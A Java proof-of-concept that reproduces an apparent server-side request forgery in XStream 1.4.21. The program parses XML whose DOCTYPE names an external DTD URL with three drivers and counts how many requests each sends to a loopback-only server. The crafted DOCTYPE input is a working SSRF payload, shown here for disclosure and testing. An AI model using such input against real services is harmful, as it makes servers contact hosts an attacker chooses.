// An XStream behaviour of 1.4.21 (the newest release on 2026-12-02), found by OSS-Fuzz's own
// harness for XStream (projects/xstream/XmlFuzzer.java) run unchanged by jvmfuzz with OSS-Fuzz's
// command line (2026-12-02), as a server-side request forgery: XStream(new StaxDriver()).fromXML
// fetches the external DTD a document names (the JDK's StAX parser connects to the host the
// input chose), although StaxDriver turns external entities off; DomDriver refuses any DOCTYPE and
// the default driver fetches nothing. This program serves the DTD on loopback only and counts
// the requests each driver's parse sends it:
//   javac -cp xstream-1.4.21.jar StaxDriverFetchesDtd.java
//   java -cp xstream-1.4.21.jar:mxparser-1.2.2.jar:xmlpull-1.1.3.1.jar:. StaxDriverFetchesDtd
import com.sun.net.httpserver.HttpServer;
import com.thoughtworks.xstream.XStream;
import com.thoughtworks.xstream.io.xml.DomDriver;
import com.thoughtworks.xstream.io.xml.StaxDriver;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.concurrent.atomic.AtomicInteger;

public class StaxDriverFetchesDtd {
    public static void main(String[] args) throws Exception {
        AtomicInteger requests = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        server.start();
        int port = server.getAddress().getPort();
        String xml = "<!DOCTYPE string SYSTEM \"http://127.0.0.1:" + port + "/x.dtd\"><string>hi</string>";
        String[] names = {"StaxDriver", "DomDriver", "XStream()"};
        XStream[] streams = {new XStream(new StaxDriver()), new XStream(new DomDriver()), new XStream()};
        for (int i = 0; i < streams.length; i++) {
            int before = requests.get();
            try {
                System.out.print(names[i] + ": fromXML returned " + streams[i].fromXML(xml));
            } catch (RuntimeException e) {
                System.out.print(names[i] + ": fromXML threw " + e);
            }
            System.out.println("; requests to the document's DTD address: " + (requests.get() - before));
        }
        server.stop(0);
    }
}
